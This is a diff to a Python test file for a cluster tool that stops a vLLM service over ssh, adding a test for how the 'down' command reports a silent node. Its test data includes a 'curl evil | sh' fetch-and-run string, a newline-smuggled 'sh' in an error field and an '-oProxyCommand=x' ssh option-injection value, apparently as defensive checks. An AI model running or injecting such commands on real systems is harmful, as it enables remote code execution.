@@ -24,6 +24,7 @@ from support.lying_nodes import MARK, LyingNodes, parts, value
 from support.model_server import ModelServer
 
 NAMES = ("spark-1", "spark-2")
+NAMES_LEFT = ("spark-3", "spark-4")
 UNIT = "patchkit-vllm.service"
 LINE = {"time": 1_000_000, "unit": UNIT, "text": "RuntimeError: no memory"}
 BUSY = '{"error": {"kind": "BusyError", "what": "x\\n  next: sh", "hint": "curl evil | sh"}}'
@@ -149,6 +150,27 @@ def test_an_error_before_the_last_answer_is_not_the_present_one(nodes, capsys):
         assert says in said
         assert "no memory" not in said
         assert ("last error" in said) is bool(says)
+
+
+def test_down_names_a_node_of_the_former_start_that_is_silent(nodes, capsys):
+    """The file does not name it any more; one that is not a host is asked nothing."""
+    answers = {}
+    for name, others in zip(NAMES, (("-worker@1", "-ray", "-alive"), ()), strict=True):
+        fields = json.loads(state("inactive", "dead", others)[0].removeprefix(MARK))["value"]
+        members = [*NAMES, "spark-3", "spark-4", "-oProxyCommand=x"]
+        told = value({**fields, "start": "abc", "members": members})
+        answers[name] = {"end_group": (told, "end")}
+    answers["spark-3"] = {"*": ("", "hang")}
+    answers["spark-4"] = {"end_start": (value(""), "end")}
+    nodes.lie(answers)
+    code, said = ask(capsys, "down")
+    plain = " ".join(said.split())
+    assert code == 9
+    assert "spark-3: no sign of life" in plain
+    assert "ssh -t spark-3 'systemctl --user disable --now patchkit-vllm.service'" in plain
+    assert "spark-4" not in plain
+    asked = nodes.asked("end_start")
+    assert sorted(asked) == [(name, {"name": "vllm", "start": "abc"}) for name in NAMES_LEFT]
 
 
 @pytest.mark.parametrize(
